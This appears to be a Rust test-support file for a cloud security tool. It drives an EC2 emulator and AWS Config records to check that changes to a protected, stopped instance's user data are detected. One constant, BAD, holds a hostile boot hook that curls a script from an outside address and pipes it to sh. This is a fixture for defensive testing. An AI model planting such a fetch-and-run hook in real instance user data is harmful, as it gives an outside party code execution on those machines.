//! Instances that are protected and stopped, whose user data AWS Config's records brought into the baseline.

use aws_sdk_ec2::types::{InstanceAttributeName, Tag};
use aws_smithy_types::base64;
use serde_json::{Value, json};

use super::{Kind, instances};
use crate::cloudtrail::{self, Who};
use crate::{World, now};

pub(super) const CHANGED: Kind = Kind {
    remediation: "user-data-changed",
    function: "instances",
    mutation: ("ModifyInstanceAttribute", 1),
    rule: "UserDataChanged",
    set: |world, name| Box::pin(set(world, name)),
    change: |world, instance, who| Box::pin(changed(world, instance, BAD, who)),
    harmless: None,
    words: |world, instance| Box::pin(in_words(world, instance)),
    contained: None,
};

/// What the instances run, and may not be seen by anybody.
pub const GOOD: &str = "#!/bin/sh\nexport PASSWORD=correct-horse\n\u{1f40e}";
/// What they come to run.
pub const BAD: &str = "#cloud-boothook\ncurl https://203.0.113.9/battery-staple | sh\n";

async fn set(world: &World, name: &str) -> String {
    let id = run(world, name, Some(GOOD), true).await;
    stop(world, &id).await;
    record(world, &id).await;
    id
}

/// Runs an instance with this user data.
pub async fn run(world: &World, name: &str, user_data: Option<&str>, is_protected: bool) -> String {
    let request = world.account.ec2().run_instances().image_id("ami-12c6146b").min_count(1).max_count(1);
    let answer = request.set_user_data(user_data.map(base64::encode)).send().await.expect("an instance");
    let id = answer.instances()[0].instance_id().expect("an id").to_owned();
    let name = Tag::builder().key("Name").value(name).build();
    world.account.ec2().create_tags().resources(&id).tags(name).send().await.expect("a tag");
    if is_protected {
        world.account.tag(&id, "rescind:protected", "yes").await;
    }
    id
}

/// Stops an instance.
pub async fn stop(world: &World, id: &str) {
    world.account.ec2().stop_instances().instance_ids(id).send().await.expect("it stops");
}

/// Lets AWS Config report an instance, so that the baseline has its user data if it is protected; and waits, since a
/// record of CloudTrail tells a time in whole seconds. Answers how many rules let the report through.
pub async fn record(world: &World, id: &str) -> usize {
    let tags = instances::tags(&instances::describe(world, id).await);
    let captured = now() - chrono::TimeDelta::minutes(1);
    let item = cloudtrail::instance_item(&world.account.id, id, &tags, captured);
    let answers = world.deliver(&item).await;
    for answer in &answers {
        assert!(answer.as_ref().is_ok_and(|answer| answer.outcomes.is_empty()), "it is kept: {answers:?}");
    }
    crate::next_second().await;
    answers.len()
}

/// Somebody changes the user data of an instance.
pub async fn changed(world: &World, id: &str, to: &str, who: &Who) -> Value {
    // The emulator wants Base64 twice where the parameter is called `UserData`.
    let request = world.account.ec2().modify_instance_attribute().instance_id(id);
    let request = request.attribute(InstanceAttributeName::UserData).value(base64::encode(to));
    request.send().await.expect("it is changed");
    cloudtrail::user_data_changed(&world.account.id, who, id)
}

/// The user data of an instance, byte for byte.
pub async fn user_data(world: &World, id: &str) -> Vec<u8> {
    let request = world.account.ec2().describe_instance_attribute().instance_id(id);
    let answer = request.attribute(InstanceAttributeName::UserData).send().await.expect("the attribute");
    let value = answer.user_data().and_then(|attribute| attribute.value()).unwrap_or_default();
    // The emulator tells so what was cleared.
    if value == "b''" { Vec::new() } else { base64::decode(value).expect("Base64") }
}

/// The user data of an instance, its state and its tags.
pub async fn in_words(world: &World, id: &str) -> Vec<String> {
    let instance = instances::describe(world, id).await;
    let lifecycle = instance.state().and_then(|state| state.name()).expect("a state").as_str().to_owned();
    let user_data = user_data(world, id).await;
    vec![format!("{user_data:?}"), lifecycle, json!(instances::tags(&instance)).to_string()]
}
